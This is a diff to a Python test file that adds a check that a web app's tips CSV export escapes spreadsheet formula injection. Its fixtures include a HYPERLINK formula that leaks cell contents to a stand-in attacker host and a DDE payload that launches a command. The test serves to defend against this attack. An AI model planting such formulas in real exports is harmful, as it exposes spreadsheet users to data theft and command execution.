@@ -6,7 +6,7 @@ import io
 
 import pytest
 
-from tests.factories import GridFactory, UserFactory
+from tests.factories import CategoryFactory, GridFactory, TipFactory, UserFactory
 from tests.rewards.factories import BudgetFactory, FundFactory
 from tipboard.csvexport import BOM, cell, csv_text
 from tipboard.extensions import db
@@ -16,6 +16,7 @@ from tipboard.permissions import Role
 from tipboard.rewards import services
 from tipboard.rewards.models import Nomination, Reward
 from tipboard.timezones import local_now
+from tipboard.tips.workflow import enqueue_tip
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
@@ -29,7 +30,7 @@ HOSTILE = [
 ]
 
 #: Every CSV route and the test below that feeds it a hostile name.
-COVERED = {"patrols.hours_csv", "rewards.ledger_csv"}
+COVERED = {"patrols.hours_csv", "rewards.ledger_csv", "api.export_csv"}
 
 
 @pytest.mark.parametrize("value", HOSTILE)
@@ -114,4 +115,18 @@ def test_ledger_export_neutralises_hostile_text(client, app_ctx, login):
         )
     )
     assert rows[0][0] == "id" and rows[1][2] == "'=HYPERLINK(1)"
+    _no_formula(rows)
+
+
+def test_tip_export_neutralises_hostile_text(client, app_ctx, login):
+    category = CategoryFactory(name_en="=cmd|' /C calc'!A0")
+    for name in HOSTILE:
+        tip = TipFactory(category=category, description=name, address=name)
+        db.session.flush()
+        enqueue_tip(tip, new_subject=True)
+    db.session.commit()
+    login(client, UserFactory(roles=(Role.STAFF,)))
+    rows = _cells(client.get("/api/exports/tips.csv"))
+    assert rows[0][0] == "id" and len(rows) == len(HOSTILE) + 1
+    assert {"'" + name for name in HOSTILE} <= {r[5] for r in rows[1:]}
     _no_formula(rows)
